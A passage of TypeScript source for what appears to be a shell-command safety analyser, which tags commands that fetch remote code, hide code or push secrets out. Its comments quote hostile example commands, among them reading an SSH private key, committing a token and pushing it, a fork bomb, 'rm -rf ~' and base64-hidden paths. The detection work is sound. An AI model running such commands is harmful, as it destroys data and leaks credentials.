        const text = echoedText([last]);
        return text && !text.dynamic && !text.value.includes('\n') ? text.value : null;
      }
    }
  }

  /**
   * Files this command line wrote (or downloaded) that the tool it now runs loads as code by
   * convention, in the directory it runs in, above it or below it: judged like a script written on
   * the line and run (what it visibly does meets the rules; content harness did not see is hidden code).
   */
  private loadedCode(load: LoadedFile, name: string, cwd: string, base: Invocation): Tag[] {
    const tags: Tag[] = [];
    const paths = new Set([...this.flow.written.keys(), ...this.flow.downloaded]);
    for (const path of paths) {
      if (!load.path.test(path) || !(isInside(path, cwd) || isInside(cwd, posix.dirname(path)))) continue;
      if (this.flow.isDownloaded(path)) {
        tags.push('code-from-network');
        continue;
      }
      const written = this.flow.written.get(path) ?? null;
      // known text appended to a file of the project: the text is judged, the rest is the project's own (as on disk)
      const content = written && this.flow.appendedToDisk.has(path) && isInside(path, this.workspace) ? { ...written, dynamic: false } : written;
      if (content === null || content.dynamic) tags.push('hidden-code');
      else if (load.as === 'settings') {
        if (load.settings?.test(content.value)) tags.push('hidden-code');
      } else if (load.as === 'package-json' || load.as === 'go-generate' || load.as === 'hook-entries') {
        tags.push(...this.codeFile(path, load.as, base.scope, base.frame, content));
      } else {
        const language = load.as;
        this.withinFile(path, () => this.inlineCode(language, content, base, [...base.frame.via, `${name} ${basename(path)}`], [...base.frame.tags], cwd));
      }
    }
    return tags;
  }

  /** `pip install ./dir` runs dir/setup.py; `bundle install` evaluates the Gemfile: judged as Python and Ruby. */
  private judgeInstallScripts(name: string, args: Arg[], cwd: string, base: Invocation): void {
    const words = args.filter((a) => !a.value.startsWith('-'));
    let files: { path: string; language: Language }[] = [];
    if (/^pip\d*(?:\.\d+)?$/.test(name) && words[0]?.value === 'install') {
      files = words
        .slice(1)
        .filter((a) => !a.dynamic && /^(?:\.{1,2}(?:\/|$)|\/|~\/)/.test(a.value))
        .map((a) => ({ path: resolvePath(`${a.value}/setup.py`, cwd, this.home), language: 'python' }));
    } else if ((name === 'bundle' || name === 'bundler') && (words[0] === undefined || words[0].value === 'install' || words[0].value === 'update')) {
      files = [{ path: resolvePath('Gemfile', cwd, this.home), language: 'ruby' }];
    }
    for (const f of files) {
      const text = this.flow.written.has(f.path) ? this.flow.written.get(f.path) : this.sessionFile(f.path);
      if (text === null || text?.dynamic) recordedTag(this.commands, 'hidden-code');
      else if (text)
        this.withinFile(f.path, () => this.inlineCode(f.language, text, base, [...base.frame.via, `${name} ${basename(f.path)}`], [...base.frame.tags], cwd));
    }
  }

  /** A file a program reads to run it (`bash x.sh`, `python x.py`): a read like `cat x.sh`'s, checked by the path rules. */
  private readsFile(path: string, text: string): void {
    this.push({
      argv: [],
      name: '',
      cwd: null,
      redirects: [],
      stdin: { kind: 'none' },
      via: [],
      text,
      depth: 0,
      tags: [],
      codeEffects: [{ op: 'read', path, recursive: false }],
    });
  }

  /** The files being analyzed by content, innermost last: commands found in them name the file. */
  private readonly inFile: string[] = [];

  private withinFile(path: string, analyze: () => void): void {
    this.inFile.push(path);
    // a script on disk too big to analyze within the budget is not judged (it stands on where it is):
    // what it added is taken back and the budget it used given back
    const onDisk = judgedOnDisk(this.judged, path);
    const mark = { commands: this.commands.length, nodes: this.nodes, bytes: this.bytes, tokens: this.tokens, limit: this.limit, errors: this.errors.length };
    try {
      analyze();
    } catch (error) {
      if (!(error instanceof LimitHit) || !onDisk || mark.limit !== null) throw error;
      this.commands.length = mark.commands;
      this.errors.length = mark.errors;
      this.nodes = mark.nodes;
      this.bytes = mark.bytes;
      this.tokens = mark.tokens;
      this.limit = null;
      this.judged.set(path, { ...this.judged.get(path)!, note: 'too large to judge' });
    } finally {
      this.inFile.pop();
    }
  }

  /** Inside the tails of programs harness has no declaration for (see `run`): what is recorded may not run at all. */
  private maybe = 0;

  private push(command: ShellCommand): ShellCommand {
    if (this.commands.length >= this.limits.maxCommands) this.hit(`more than ${this.limits.maxCommands} commands`);
    const file = this.inFile[this.inFile.length - 1];
    if (file !== undefined) command.file = file;
    if (this.maybe > 0) command.maybe = true;
    this.commands.push(command);
    return command;
  }

  /**
   * Records a command after peeling wrappers off it, and follows whatever code it runs:
   * shell strings, eval, interpreter one-liners, code on stdin, xargs/find/parallel children.
   * Returns the commands recorded at this level (not those of nested scripts).
   */
  private run(argvIn: Arg[], base: Invocation): ShellCommand[] {
    let argv = argvIn;
    let cwd = base.cwd;
    const via = [...base.frame.via];
    const tags: Tag[] = [...base.frame.tags];
    const recorded: ShellCommand[] = [];
    /** The program file outside the usual places this command runs, when it does. */
    let runsOutside: string | undefined;
    /** Files the wrappers peeled off write by their own options (`strace -o FILE`), as redirects of what they run. */
    const wrapperWrites: RedirectIR[] = [];
    const make = (name: string, extra: Tag[] = []): ShellCommand => {
      const redirects = wrapperWrites.length > 0 ? [...base.redirects, ...wrapperWrites] : base.redirects;
      const command = this.push({
        argv,
        name,
        cwd,
        redirects,
        stdin: base.stdin,
        via: [...via],
        text: base.text,
        depth: base.frame.depth,
        tags: [...tags, ...extra],
      });
      if (runsOutside !== undefined) command.runs = runsOutside;
      recorded.push(command);
      return command;
    };
    /** A script this command runs; `inShell`: in the same shell (eval), whose variables and functions it then changes. */
    const nested = (script: Arg, how: string, scriptCwd: string | null = cwd, stdin: StdinSource | undefined = base.stdin, inShell = false): void => {
      const extra: Tag[] = [];
      if (this.flow.argFromNetwork(script)) extra.push('code-from-network');
      else if (script.dynamic) extra.push('dynamic-code');
      if (extra.length > 0) make(argv[0] ? basename(argv[0].value) : '', extra);
      // assignments before the command hold for it alone: then the script gets a copy
      const scope: Scope =
        inShell && (base.env ?? []).length === 0 && scriptCwd === base.scope.cwd
          ? base.scope
          : { cwd: scriptCwd, vars: new Map(base.scope.vars), functions: new Map(base.scope.functions) };
      for (const e of base.env ?? []) assign(scope, e.name, e.value);
      this.script(script.value, scope, { depth: base.frame.depth + 1, via: [...via, how], tags: [...tags], stdin });
    };
    const child = (args: Arg[], how: string): void => {
      this.run(args, { ...base, cwd, redirects: [], frame: { ...base.frame, via: [...via, how], tags } });
    };

    for (let layer = 0; ; layer++) {
      if (layer > 16) this.hit('more than 16 nested wrappers');
      const head = argv[0];
      if (!head) return recorded;
      // computed (`$cmd`), or a pattern the shell expands to whichever files match (`/bin/[r]m`, `/???/r?`)
      if (head.dynamic || GLOBBED_NAME.test(head.value)) {
        make('', ['dynamic-command']);
        return recorded;
      }
      const name = basename(head.value);
      if (base.scope.functions.has(name) && !head.value.includes('/')) {
        // a function that starts copies of itself as processes of their own (`:(){ :|:& };:`) multiplies without end
        const runaway = this.forked && base.scope.functions.get(name)!.some((d) => this.calling.has(d));
        make(name, runaway ? ['runaway'] : []);
        this.callFunction(name, argv.slice(1), { ...base, cwd }, via, tags);
        return recorded;
      }
      const peeled = peelWrapper(name, argv, this.agentEnv);
      if (peeled.kind !== 'final' && peeled.kind !== 'lookup') for (const target of peeled.writes) wrapperWrites.push({ kind: 'write', target, fd: 2 });
      if (peeled.kind === 'inner') {
        // the wrapper's own options may carry code too (`gdb -ex 'shell …' --args prog`, `perf stat --pre CMD`)
        if (peeled.own && peeled.own.length > 0) {
          const own = indirectCode(name, peeled.own);
          if (own.hidden) tags.push('hidden-code');
          for (const s of own.scripts) nested(s, `${name} option`);
        }
        via.push(peeled.via);
        tags.push(...peeled.tags);
        if (peeled.cwd) cwd = peeled.cwd.dynamic || cwd === null ? null : resolvePath(peeled.cwd.value, cwd, this.home);
        argv = peeled.argv;
        if (PACKAGE_RUNNERS.test(peeled.via) && argv[0]) {
          // a package from a URL or a repository, not the registry: code from the network (`npx github:u/x`, `uvx --from git+https://…`)
          if ([argv[0], ...argvIn].some((a) => REMOTE_PACKAGE.test(a.value))) tags.push('remote-package');
          argv = [packageBinary(argv[0]), ...argv.slice(1)];
        }
        continue;
      }
      if (peeled.kind === 'script') {
        tags.push(...peeled.tags);
        make(name);
        nested(peeled.script, peeled.via, peeled.cwd && !peeled.cwd.dynamic && cwd ? resolvePath(peeled.cwd.value, cwd, this.home) : cwd);
        return recorded;
      }
      if (peeled.kind === 'shell') {
        tags.push(...peeled.tags);
        this.codeFromStdin('shell', base, make, nested, name);
        return recorded;
      }
      if (peeled.kind === 'lookup') {
        make(name);
        return recorded;
      }
      break;
    }

    const head = argv[0]!;
    const name = basename(head.value);
    const args = argv.slice(1);
    if (cwd !== null) {
      if (head.value.includes('/')) {
        const program = resolvePath(head.value, cwd, this.home);
        if (this.outsideProgramDirs(program)) {
          tags.push('exec-outside');
          runsOutside = program;
        }
        tags.push(...this.codeFile(program, 'shell', base.scope, base.frame, undefined, [], { ...base, cwd }));
      }
      for (const use of conventionalCodeFiles(name, args)) {
        // `make -f <(printf …)`: the file is another command's output; `make -f -`: its stdin
        const producers = this.flow.substitutions.get(use.file);
        const content = producers ? echoedText(producers) : STDIN_FILES.has(use.file.value) ? stdinText(base.stdin) : undefined;
        if (use.file.dynamic && content === undefined) continue;
        tags.push(...this.codeFile(resolvePath(use.file.value, cwd, this.home), use.kind, base.scope, base.frame, content, use.targets));
      }
      // `echo … > conftest.py && pytest`, `build.rs && cargo build`: a file the tool loads, written on this line
      for (const load of loadedFiles(name, argv.slice(1))) tags.push(...this.loadedCode(load, name, cwd, { ...base, cwd }));
    }
    const indirect = indirectCode(name, base.stdin.kind === 'text' ? [...args, base.stdin.text] : args);
    if (indirect.hidden) tags.push('hidden-code');
    for (const s of indirect.scripts) nested(s, `${name} option`);
    // `kill $(pgrep node)`, `pgrep node | xargs kill`: the processes a name finds, killed by it (as `pkill node`)
    if (name === 'kill') {
      const lookups = [...args.flatMap((a) => this.flow.substitutions.get(a) ?? []), ...(base.stdin.kind === 'pipe' ? base.stdin.producers : [])];
      for (const p of lookups)
        if (p.name === 'pgrep' || p.name === 'pidof')
          this.push({ ...p, argv: [textArg('pkill'), ...p.argv.slice(1)], name: 'pkill', via: [...via, `kill $(${p.name} …)`], tags: [...tags] });
    }
    if (name === 'curl' || name === 'wget') this.flow.rememberDownloads(name, args, cwd);
    if ((name === 'tar' || name === 'unzip' || name === 'bsdtar') && cwd !== null) this.flow.rememberUnpacked(name, args, cwd, base.stdin);

    if (SHELLS.has(name)) {
      const rc = args.findIndex((a) => a.value === '--rcfile' || a.value === '--init-file');
      if (rc !== -1 && args[rc + 1]) this.codeFromFile('shell', args[rc + 1]!, cwd, base, make, nested, name);
      const how = shellInvocation(args);
      if (how.mode === 'stdin' && printsInfo(args)) make(name);
      else if (how.mode === 'script') {
        make(name);
        nested(how.script, `${name} -c`);
      } else if (how.mode === 'file') this.codeFromFile('shell', how.file, cwd, base, make, nested, name);
      else this.codeFromStdin('shell', base, make, nested, name);
      return recorded;
    }

    // how the program runs other commands, as its declaration says (`runs`)
    switch (programOf(name)?.runs) {
      case 'eval': {
        const script = joinedArgs(args);
        if (args.some((a) => this.flow.argFromNetwork(a)))
          this.flow.substitutions.set(
            script,
            args.flatMap((a) => this.flow.substitutions.get(a) ?? []),
          );
        make(name);
        nested(script, 'eval', cwd, base.stdin, true);
        return recorded;
      }
      case 'source': {
        const file = args[0];
        if (file) this.codeFromFile('shell', file, cwd, base, make, nested, name);
        else make(name);
        return recorded;
      }
      case 'xargs': {
        make(name);
        // -a FILE: the words come from the file, not from stdin
        const fromFile = args.some((a) => a.value === '-a' || a.value.startsWith('--arg-file') || /^-a./.test(a.value));
        // a here-string or here-document's words are the input (`xargs -I{} cat {} <<< "$HOME/.ssh/id_rsa"`)
        const given = base.stdin.kind === 'text' && !fromFile ? xargsItems(base.stdin.text, args) : null;
        const listed = base.stdin.kind === 'pipe' && !fromFile ? listedAll(base.stdin.producers, this.home) : null;
        let input = base.stdin.kind === 'pipe' && !fromFile ? listedBy(base.stdin.producers, this.home) : (given?.[0] ?? unknownArg('XARGS_INPUT'));
        const argv = xargsCommand(args, input, listed ?? given ?? [input]);
        // a shell or interpreter fed by xargs runs what the input says: untrusted, whatever printed it
        const head = argv[0] && !argv[0].dynamic ? basename(argv[0].value) : '';
        if ((SHELLS.has(head) || languageOf(head) !== null) && !input.glob) {
          input = unknownArg('XARGS_INPUT');
          child(xargsCommand(args, input), 'xargs');
        } else {
          child(argv, 'xargs');
          // with a replacement string each item is a command of its own
          for (const item of given?.slice(1) ?? []) child(xargsCommand(args, item, [item]), 'xargs');
        }
        return recorded;
      }
      case 'parallel': {
        make(name);
        // no command and no `:::`: each line of stdin is a command (`printf 'make a\nmake b' | parallel`)
        const fed = base.stdin.kind === 'pipe' && !args.some((a) => !a.value.startsWith('-')) ? echoedText(base.stdin.producers) : null;
        const scripts =
          fed && !fed.dynamic
            ? fed.value
                .split('\n')
                .filter((l) => l.trim() !== '')
                .map((l) => textArg(l))
            : parallelScripts(args);
        for (const script of scripts) nested(script, 'parallel');
        return recorded;
      }
      case 'find':
        make(name);
        for (const c of findExecs(args, cwd, this.home)) child(c, 'find -exec');
        return recorded;
      case 'fd':
        make(name);
        for (const c of fdExecs(args, cwd, this.home)) child(c, `${name} -x`);
        return recorded;
      case 'ssh': {
        make(name, base.stdin.kind === 'pipe' ? ['stdin-to-network'] : []);
        const remote = sshRemoteCommand(args);
        if (remote) nested(remote, 'ssh (remote)', null);
        return recorded;
      }
      case 'git': {
        const git = gitInvocation(args, this.flow.gitAliases);
        // `git remote add x URL && git push x`, `git remote set-url origin URL`, `git config remote.origin.url URL`: the push goes to that URL
        if (git.subcommand === 'remote' && (git.rest[0]?.value === 'add' || git.rest[0]?.value === 'set-url')) {
          const words = git.rest.slice(1).filter((a) => !a.value.startsWith('-'));
          if (words[0] && words[1]) this.flow.gitRemotes.set(words[0].value, words[1]);
        }
        if (git.subcommand === 'config') {
          const words = git.rest.filter((a) => !a.value.startsWith('-'));
          const key = words[0] && /^remote\.(.+)\.(?:push)?url$/i.exec(words[0].value);
          if (key && words[1]) this.flow.gitRemotes.set(key[1]!, words[1]);
        }
        // `git config remote.origin.mirror true && git push`, `git -c remote.origin.push=+… push`: pushed as set
        if (git.subcommand === 'push') argv = this.flow.pushAsConfigured(argv, git.remoteConfig);
        if (git.subcommand === 'push' || git.subcommand === 'fetch' || git.subcommand === 'pull') {
          argv = argv.map((a) => this.flow.gitRemotes.get(a.value) ?? a);
        }
        if (git.cwd) cwd = git.cwd.dynamic || cwd === null ? null : resolvePath(git.cwd.value, cwd, this.home);
        // `echo "$NPM_TOKEN" >> .npmrc && git add .npmrc && git commit … && git push`: the secret goes with the push
        const pushesSecret =
          git.subcommand === 'push' &&
          [...this.flow.written].some(
            ([path, content]) => content !== null && isInside(path, this.workspace) && secretVariableIn(content.value, true) !== null,
          );
        make(name, [...(git.execConfig ? (['hidden-code'] as const) : []), ...(pushesSecret ? (['secret-to-network'] as const) : [])]);
        this.flow.rememberGitAlias(git.subcommand, git.rest);
        this.flow.rememberGitPushConfig(git.subcommand, git.rest);
        if (git.subcommand === 'clone' && cwd !== null) this.flow.rememberCloned(git.rest, cwd);
        const { scripts, argvs } = gitScripts(git);
        for (const s of scripts) nested(s, `git ${git.subcommand ?? ''}`.trim());
        for (const a of argvs) child(a, `git ${git.subcommand ?? ''}`.trim());
        return recorded;
      }
      case undefined:
        // a program that runs no other command: judged as itself, below
        break;
    }

    // A program harness has no declaration for may run what follows it as a command (`setpriv rm -rf ~`,
    // `firejail rm …`, `cpulimit -l 50 rm …`, `eatmydata rm …`): each operand that names a known program
    // (the first few) is judged as the command it would start, and the program as itself below.
    if (programOf(name) === undefined && languageOf(name) === null && !head.value.includes('/')) {
      let tails = 0;
      for (let i = 1; i < argv.length && tails < 3; i++) {
        const word = argv[i]!;
        if (word.dynamic || word.value.startsWith('-')) continue;
        const program = basename(word.value);
        if (programOf(program) === undefined && !SHELLS.has(program)) continue;
        // a program's name alone, nothing fed to it, names it (`pidof node`, `man bash`)
        if (i === argv.length - 1 && base.stdin.kind === 'none') continue;
        tails++;
        this.maybe++;
        try {
          child(argv.slice(i), `${name} (may run ${program})`);
        } finally {
          this.maybe--;
        }
      }
    }
    // REPLs that read code on stdin: `dotnet fsi`, `terraform console`, `bundle exec irb` (judged by what the code names)
    if (
      ((name === 'dotnet' && args[0]?.value === 'fsi') || ((name === 'terraform' || name === 'tofu') && args[0]?.value === 'console')) &&
      base.stdin.kind !== 'none'
    ) {
      this.codeFromStdin('other', base, make, nested, name);
      return recorded;
    }
    // installing a local package runs its build script: pip's setup.py, bundler's Gemfile
    if (cwd !== null) this.judgeInstallScripts(name, args, cwd, base);
    const language = languageOf(name);
    if (language) {
      const inv = interpreterInvocation(language, name, args);
      if (inv.source.mode === 'inline') {
        make(name);
        // `node -p EXPR` prints what the expression gives
        const code =
          language === 'node' && args.some((a) => /^(?:-p|--print|-pe|-ep)$/.test(a.value))
            ? { ...inv.source.code, value: `console.log(${inv.source.code.value})` }
            : inv.source.code;
        this.inlineCode(language, language === 'awk' ? withAwkVariables(code, args) : code, base, via, tags, cwd);
      } else if (inv.source.mode === 'stdin' && !printsInfo(args)) this.codeFromStdin(language, base, make, nested, name);
      else if (inv.source.mode === 'file') this.codeFromFile(language, inv.source.file, cwd, base, make, nested, name);
      else if (language === 'python' && cwd !== null) {
        // `python -m mod`: a module of the current directory is a file harness can judge; `-m awscli` is the aws CLI
        const at = args.findIndex((a) => a.value === '-m');
        const mod = at === -1 ? undefined : args[at + 1];
        const program = mod && PYTHON_MODULE_PROGRAMS[mod.value];
        if (program) child([textArg(program), ...args.slice(at + 2)], `${name} -m ${mod.value}`);
        else if (mod && !mod.dynamic && /^[A-Za-z_][\w.]*$/.test(mod.value)) {
          const file = resolvePath(`${mod.value.split('.').join('/')}.py`, cwd, this.home);
          const text = this.flow.written.get(file) ?? this.sessionFile(file);
          make(name);
          if (text)
            this.withinFile(file, () => this.inlineCode(language, text, base, [...base.frame.via, `${language} -m ${mod.value}`], [...base.frame.tags], cwd));
        } else make(name);
      } else make(name);
      return recorded;
    }

    const recordedCommand = make(name);
    if (base.stdin.kind === 'pipe' && sendsToNetwork(recordedCommand)) recordedCommand.tags.push('stdin-to-network');
    // a secret-named variable in a network command's words through a substitution that prints it
    // (`curl -H "X-Api-Key: $(printenv DD_API_KEY)"`) or a variable the line copied it to (`T=$GITHUB_TOKEN; curl -H "…: $T"`)
    if (
      fetchesFromNetwork(recordedCommand) &&
      args.some(
        (a) => a.dynamic && ((this.flow.substitutions.get(a) ?? []).some((c) => printedSecret(c) !== null) || secretHeldBy(base.scope.vars, a.value) !== null),
      )
    )
      recordedCommand.tags.push('secret-to-network');
    // a program nobody declared, handed a shell or an interpreter with its code (`firejail sh -c '…'`,
    // `setpriv … bash -c`, `faketime x python3 -c`): that command line runs, judged as one
    if (!programOf(name)?.files && !programOf(name)?.remote && !programOf(name)?.globals) {
      const at = args.findIndex(
        (a, i) =>
          !a.dynamic &&
          (SHELLS.has(basename(a.value)) || languageOf(basename(a.value)) !== null) &&
          /^-[A-Za-z]*[ceE]$|^--?(?:command|eval|exec)$/.test(args[i + 1]?.value ?? ''),
      );
      if (at !== -1) child(args.slice(at), name);
    }
    // an argument decoded at run time (`cat "$(echo L2hv… | base64 -d)"`): what it names is hidden on purpose
    if (args.some((a) => a.dynamic && (this.flow.substitutions.get(a) ?? []).some(decodes))) recordedCommand.tags.push('hidden-code');
    if (cwd !== null && this.handsWrittenCode(name, args, cwd)) recordedCommand.tags.push('hidden-code');
    // `mysql shop < drop_all.sql`, `psql -f x.sql`, `\i x.sql`, `source x.sql`, `.read x.sql`: the statements are
    // the files' content, as the session read them, judged with the rest of the command's statements
    if (STATEMENT_CLIENTS.has(name) && cwd !== null) {
      const files: Arg[] = [];
      if (base.stdin.kind === 'file' && !base.stdin.target.dynamic) files.push(base.stdin.target);
      for (let i = 0; i < args.length; i++) {
        const w = args[i]!.value;
        if (['-f', '--file', '-i', '--input-file'].includes(w) && args[i + 1] && !args[i + 1]!.dynamic) files.push(args[++i]!);
        for (const m of w.matchAll(/(?:^|[\n;])\s*(?:\\i|\\include|\\ir|source|\.read)\s+(\S+)/g)) files.push(textArg(m[1]!.replace(/;$/, '')));
      }
      const texts: string[] = [];
      for (const f of files) {
        const path = resolvePath(f.value, cwd, this.home);
        const text = this.flow.written.has(path) ? this.flow.written.get(path) : this.sessionFile(path);
        if (text) {
          texts.push(text.value);
          recordedCommand.file ??= path;
        }
      }
      if (texts.length > 0) {
        const own = recordedCommand.stdin.kind === 'text' ? [recordedCommand.stdin.text.value] : [];
        recordedCommand.stdin = { kind: 'text', text: textArg([...own, ...texts].join('\n')), origin: 'file' };
      }
    }
    return recorded;
  }

  private outsideProgramDirs(path: string): boolean {
    if (isInside(path, this.workspace)) return false;
    if (PROGRAM_DIRS.some((d) => isInside(path, d))) return false;
    return !HOME_PROGRAM_DIRS.some((d) => isInside(path, `${this.home}/${d}`));
  }

  private inlineCode(language: Language, code: Arg, base: Invocation, via: string[], tags: Tag[], cwd: string | null): void {
    const findings = analyzeCode(language, code.value, 0, base.scope.vars);
    // `import mod` of a module in the current directory runs that file (as far as the session can read it)
    if (language === 'python' && cwd !== null && this.inFile.length < 3) {
      for (const m of code.value.matchAll(/^\s*(?:import\s+([A-Za-z_]\w*)|from\s+([A-Za-z_]\w*)(?:\.\w+)*\s+import)\b/gm)) {
        const mod = m[1] ?? m[2]!;
        const file = resolvePath(`${mod}.py`, cwd, this.home);
        if (this.inFile.includes(file)) continue;
        const text = this.flow.written.get(file) ?? this.sessionFile(file);
        if (text) this.withinFile(file, () => this.inlineCode(language, text, base, [...via, `import ${mod}`], tags, cwd));
      }
    }
    const how = `${language} code`;
    const extra: Tag[] = [];
    if (this.flow.argFromNetwork(code)) extra.push('code-from-network');
    else if (code.dynamic) extra.push('dynamic-code');
    if (findings.unknownExec || findings.unknownMutation) extra.push('hidden-code');
    if (findings.fromNetwork) extra.push('code-from-network');
    if (findings.uploads) extra.push('upload');
    if (findings.dumpsEnv) extra.push('env-dump');
    if (findings.forksEndlessly) extra.push('runaway');
    // Commands the program runs get no stdin harness can see: a shell reading it runs unseen code.
    const frame = { depth: base.frame.depth + 1, via: [...via, how], tags: [...tags], stdin: { kind: 'pipe', producers: [] } as StdinSource };
    for (const line of findings.shell) this.script(line, { cwd, vars: new Map([['HOME', this.home]]), functions: new Map() }, frame);
    if (findings.effects.length > 0 || extra.length > 0) {
      // The program's own file operations, as a synthetic command the effects stage understands.
      this.push({
        argv: [],
        name: '#code',
        codeEffects: findings.effects,
        cwd,
        redirects: [],
        stdin: { kind: 'none' },
        via: [...via, how],
        text: base.text,
        depth: base.frame.depth + 1,
        tags: [...tags, ...extra],
      });
    }
  }

  private codeFromFile(
    language: Language | 'shell',
    file: Arg,
    cwd: string | null,
    base: Invocation,
    make: (name: string, extra?: Tag[]) => ShellCommand,
    nested: (script: Arg, how: string) => void,
    name: string,
  ): void {
    const producers = this.flow.substitutions.get(file);
    if (producers && file.value.startsWith('/dev/fd/')) {
      this.codeFromProducers(language, producers, base, make, nested, name);
      return;
    }
    if (file.value === '/dev/stdin' || file.value === '-') {
      this.codeFromStdin(language, base, make, nested, name);
      return;
    }
    const extra: Tag[] = [];
    if (/^(?:https?|ftp):\/\//i.test(file.value)) extra.push('remote-package');
    else if (file.dynamic && this.flow.argFromNetwork(file)) extra.push('code-from-network');
    // computed, a glob, or relative to a directory harness lost track of: which file runs cannot be told
    else if (file.dynamic || file.glob || hasGlob(file.value) || (cwd === null && !file.value.startsWith('/') && !file.value.startsWith('~')))
      extra.push('hidden-code');
    else if (cwd !== null) {
      const path = resolvePath(file.value, cwd, this.home);
      this.readsFile(path, base.text);
      const outside = this.outsideProgramDirs(path);
      if (outside) extra.push('exec-outside');
      const written = this.flow.written.get(path);
      const downloaded = this.flow.isDownloaded(path);
      if (language !== 'shell' && written && !written.dynamic && !downloaded) {
        // `cat > t.py <<'EOF' … EOF; python t.py`: the program is the text this command line wrote
        make(
          name,
          extra.filter((t) => t !== 'exec-outside'),
        );
        this.withinFile(path, () => this.inlineCode(language, written, base, [...base.frame.via, `${language} ${basename(path)}`], [...base.frame.tags], cwd));
        return;
      }
      const read = language !== 'shell' && !downloaded && !this.flow.written.has(path) ? this.sessionFile(path) : undefined;
      if (language !== 'shell' && read) {
        // `python x.py`: the program the session read, judged as if typed
        const command = make(name, extra);
        if (outside) command.runs = path;
        this.withinFile(path, () => this.inlineCode(language, read, base, [...base.frame.via, `${language} ${basename(path)}`], [...base.frame.tags], cwd));
        return;
      }
      extra.push(...this.codeFile(path, language === 'shell' ? 'shell' : 'other', base.scope, base.frame));
      if (outside) {
        const command = make(name, extra);
        command.runs = path;
        return;
      }
    }
    make(name, extra);
  }

  private codeFromStdin(
    language: Language | 'shell',
    base: Invocation,
    make: (name: string, extra?: Tag[]) => ShellCommand,
    nested: (script: Arg, how: string, cwd?: string | null, stdin?: StdinSource) => void,
    name: string,
  ): void {
    const stdin = base.stdin;
    if (stdin.kind === 'text') {
      make(name);
      if (language === 'shell') nested(stdin.text, `${name} <<${stdin.origin === 'heredoc' ? 'EOF' : '<'}`, base.cwd, { kind: 'none' });
      else this.inlineCode(language, stdin.text, base, [...base.frame.via], [...base.frame.tags], base.cwd);
    } else if (stdin.kind === 'pipe') {
      this.codeFromProducers(language, stdin.producers, base, make, nested, name);
    } else if (stdin.kind === 'file') {
      const producers = this.flow.substitutions.get(stdin.target);
      if (producers) this.codeFromProducers(language, producers, base, make, nested, name);
      else if (!stdin.target.dynamic && !stdin.target.glob && base.cwd !== null) {
        // `sh < deploy.sh`: the file's content is the program
        const path = resolvePath(stdin.target.value, base.cwd, this.home);
        make(name, this.outsideProgramDirs(path) ? ['exec-outside'] : []);
        const downloaded = this.flow.isDownloaded(path);
        const text = downloaded ? undefined : this.flow.written.has(path) ? (this.flow.written.get(path) as Arg | null) : this.sessionFile(path);
        if (downloaded) recordedTag(this.commands, 'code-from-network');
        else if (text === null || text?.dynamic) recordedTag(this.commands, 'hidden-code');
        else if (text) {
          this.withinFile(path, () => {
            if (language === 'shell') nested(text, `${name} < ${basename(path)}`, base.cwd, { kind: 'none' });
            else this.inlineCode(language, text, base, [...base.frame.via], [...base.frame.tags], base.cwd);
          });
        }
      } else make(name);
    } else {
      // A shell or REPL reading commands from a terminal or a stdin harness does not see, started by
      // another program (`vim -c '!sh'`, `timeout 9d sh`, `find -exec sh`); the agent's own bare `bash` reads its empty stdin.
      const command = make(name);
      if (command.via.length > 0) command.tags.push('hidden-code');
    }
  }

  /** Code a shell or interpreter reads from other commands' output. */
  private codeFromProducers(
    language: Language | 'shell',
    producers: ShellCommand[],
    base: Invocation,
    make: (name: string, extra?: Tag[]) => ShellCommand,
    nested: (script: Arg, how: string, cwd?: string | null, stdin?: StdinSource) => void,
    name: string,
  ): void {
    if (producers.some((p) => this.flow.fromNetwork(p))) {
      make(name, ['code-from-network']);
      return;
    }
    const text = echoedText(producers);
    if (text === null || producers.some((p) => programOf(p.name)?.decoder === true && p !== producers[producers.length - 1]) || text.dynamic) {
      make(name, ['hidden-code']);
      return;
    }
    make(name);
    if (language === 'shell') nested(text, `| ${name}`, base.cwd, { kind: 'none' });
    else this.inlineCode(language, text, base, [...base.frame.via], [...base.frame.tags], base.cwd);
  }
}

/** A word that is one command substitution, quoted or not (`$(ls)`, `"$(git ls-files)"`). */
function isOnlySubstitution(word: Word): boolean {
  const parts = word.parts ?? [];
  const inner = parts.length === 1 && parts[0]!.type === 'DoubleQuoted' ? (parts[0] as { parts: readonly { type: string }[] }).parts : parts;
  return inner.length === 1 && inner[0]!.type === 'CommandExpansion';
}

/** awk's `-v NAME=VALUE`: the program sees the value where it names the variable (`print "x" > LFILE`). */
function withAwkVariables(code: Arg, args: Arg[]): Arg {
  let text = code.value;
  for (let i = 0; i < args.length; i++) {
    const w = args[i]!.value;
    const assignment =
      w === '-v' || w === '--assign'
        ? args[i + 1]
        : /^-v./.test(w)
          ? { ...args[i]!, value: w.slice(2) }
          : w.startsWith('--assign=')
            ? { ...args[i]!, value: w.slice(9) }
            : undefined;
    const m = assignment && !assignment.dynamic ? /^([A-Za-z_]\w*)=(.*)$/s.exec(assignment.value) : null;
    if (!m || /["\\\n]/.test(m[2]!)) continue;
    text = text.replace(new RegExp(`(?<![\\w$"])${m[1]}(?![\\w"])`, 'g'), JSON.stringify(m[2]));
  }
  return text === code.value ? code : { ...code, value: text, pattern: text };
}

/** A file whose content was read from disk for this decision (not written on the line, not unreadable). */
export function judgedOnDisk(judged: ShellAnalysis['judged'], path: string): boolean {
  return (judged.get(path)?.sha256 ?? null) !== null;
}

/** Adds a tag to the command just recorded. */
function recordedTag(commands: ShellCommand[], tag: Tag): void {
  const last = commands[commands.length - 1];
  if (last && !last.tags.includes(tag)) last.tags.push(tag);
}

function assignmentWords(item: { value: Word | { type: 'ArrayValue'; elements: readonly Word[] } }): Word[] {
  return item.value.type === 'Word' ? [item.value] : [...item.value.elements];
}

function fork(scope: Scope): Scope {
  return { cwd: scope.cwd, vars: new Map(scope.vars), functions: new Map(scope.functions) };
}

/** Adds the functions `inner` defined to `scope` (as alternatives to its own); true when there were any. */
function mergeFunctions(scope: Scope, inner: Scope): boolean {
  let defined = false;
  for (const [name, defs] of inner.functions) {
    const own = scope.functions.get(name) ?? [];
    const added = defs.filter((d) => !own.includes(d));
    if (added.length === 0) continue;
    scope.functions.set(name, [...own, ...added]);
    defined = true;
  }
  return defined;
}

function assign(scope: Scope, name: string, value: Arg | null): void {
  if (value && !value.dynamic && !value.glob) scope.vars.set(name, value.value);
  else scope.vars.delete(name);
  // `T=$GITHUB_TOKEN`: T holds that secret now (its value is unknown, its origin is not)
  const secret = value?.dynamic ? secretHeldBy(scope.vars, value.value) : null;
  if (secret) scope.vars.set(`\u0001${name}`, secret);
  else scope.vars.delete(`\u0001${name}`);
}

